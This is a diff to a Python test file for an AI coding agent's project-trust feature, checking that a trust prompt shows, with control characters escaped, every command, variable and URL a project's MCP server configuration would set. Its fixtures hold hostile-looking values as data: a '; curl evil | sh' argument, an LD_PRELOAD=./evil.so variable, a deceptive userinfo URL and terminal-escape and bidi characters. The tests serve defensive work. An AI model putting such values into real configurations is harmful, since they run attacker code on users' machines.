@@ -14,7 +14,7 @@ from support.orphan_trials import Silent, text_of
 from support.places import folder_outside_tmp
 from support.plain_mcp import PYTHON, SERVER
 
-from makai.agent.project_trust import wanted_by_servers
+from makai.agent.project_trust import wanted_by_project
 from makai.agent.workbench import Workbench, WorkbenchSpec
 from makai.core.confinement import Confinement
 from makai.core.session_events import Notice
@@ -62,13 +62,20 @@ async def test_a_server_has_the_network_only_when_its_entry_says_so_and_a_notice
     assert said == [text_outcome("refused"), text_outcome("connected")]
 
 
-async def test_a_server_that_fails_without_network_gets_a_notice_with_the_way_to_get_it(repo: Path) -> None:
+async def test_a_program_that_started_and_failed_without_network_gets_a_notice_how_to_get_it(
+    repo: Path,
+) -> None:
     found = try_bubblewrap()
     if isinstance(found, str):
         pytest.skip(found)
     hint = '(It has no network; `"network": true` in its entry would give it one.)'
-    servers = {"a": {"command": "/bin/false"}, "b": {"command": "/bin/false", "network": True}}
-    for level, hinted in (("workspace-write", [True, False]), ("full-access", [False, False])):
+    servers = {
+        "a": {"command": "/bin/false"},
+        "b": {"command": "/bin/false", "network": True},
+        "missing": {"command": "no-such-program-of-makai"},
+        "not_executable": {"command": "/etc/passwd"},
+    }
+    for level, hinted in (("workspace-write", [True, *[False] * 3]), ("full-access", [False] * 4)):
         async with Workbench(spec(repo, servers, sandbox=level), detection=Detection(backend=found)) as bench:
             await bench.ready(30.0)
             failed = [notice.message for notice in bench.notices if notice.code == "mcp_server_failed"]
@@ -130,24 +137,39 @@ def test_what_asks_for_the_repository_is_another_server_too() -> None:
     assert len({config.servers[0].identity for config in configs}) == 3
 
 
-def test_who_trusts_a_folder_is_shown_what_its_servers_run_and_ask_for(tmp_path: Path) -> None:
+def test_who_trusts_a_folder_is_shown_all_that_its_files_set_and_run() -> None:
     servers = {
-        "plain": {"command": "server", "args": ["--token", "${TOKEN}"]},
-        "open": {"command": "sh", "args": ["-c", "evil \x1b[2J\u202e"], "network": True, "git": True},
-        "far": {"url": "https://user:pass@mcp.example/x?key=k3y"},
-        "odd": {"command": "x", "git": "yes"},
+        "plain": {"command": "server", "args": ["--token", "${TOKEN}", "${X:-evil}"], "cwd": "sub\u3164"},
+        "long": {"command": "npx", "args": ["x" * 3000, "; curl evil | sh"]},
+        "open": {
+            "command": "sh",
+            "args": ["-c", "evil \x1b[2J\u202e\u200d\u3164\u2800\n"],
+            "env": {"LD_PRELOAD": "./evil.so", "KEY": "${KEY}"},
+            "network": True,
+            "git": True,
+        },
+        "far": {"url": "https://good.example@mcp.example/x?key=k3y", "headers": {"Authorization": "Bearer ${T}"}},
+        "named": {"url": "${BASE:-https://evil.example}/mcp"},
+        "odd": {"command": "x", "git": "yes\u200d"},
     }
-    (tmp_path / ".mcp.json").write_text(json.dumps({"mcpServers": servers}))
+    settings = 'sandbox = "full-access"\u2800\n\n[permissions]\n'
+    files = {".makai/config.toml": settings.encode(), ".mcp.json": json.dumps({"mcpServers": servers}).encode()}
 
-    plain, opened, far, odd = wanted_by_servers(str(tmp_path))
-
-    assert plain == "MCP server plain: runs server --token '${TOKEN}'"
-    assert opened.startswith("MCP server open: runs sh -c ")
-    assert opened.endswith(
-        ", with network to every address, may write the git repository (which can make later git commands run code)"
-    )
-    assert "\x1b" not in opened
-    assert "\u202e" not in opened
-    assert far == "MCP server far: calls https://mcp.example/x"
-    assert "'odd': Expected `bool`" in odd
-    assert wanted_by_servers(str(tmp_path / "nowhere")) == []
+    assert wanted_by_project(files) == [
+        ".makai/config.toml sets:",
+        '  sandbox = "full-access"\\u2800',
+        "  ",
+        "  [permissions]",
+        "MCP server plain: runs server --token '${TOKEN}' '${X:-evil}'",
+        "  in the folder sub\\u3164",
+        f"MCP server long: runs npx {'x' * 3000} '; curl evil | sh'",
+        "MCP server open: runs sh -c 'evil \\x1b[2J\\u202e\\u200d\\u3164\\u2800\\n', with network to every address, "
+        "may write the git repository (which can make later git commands run code)",
+        "  with the variable LD_PRELOAD=./evil.so",
+        "  with the variable KEY=${KEY}",
+        "MCP server far: calls https://mcp.example/x (written https://good.example@mcp.example/x?key=k3y)",
+        "  with the header Authorization: Bearer ${T}",
+        "MCP server named: calls ${BASE:-https://evil.example}/mcp",
+        ".mcp.json: 'odd': Expected `bool`, got `str` - at `$.git`.",
+    ]
+    assert wanted_by_project({}) == []
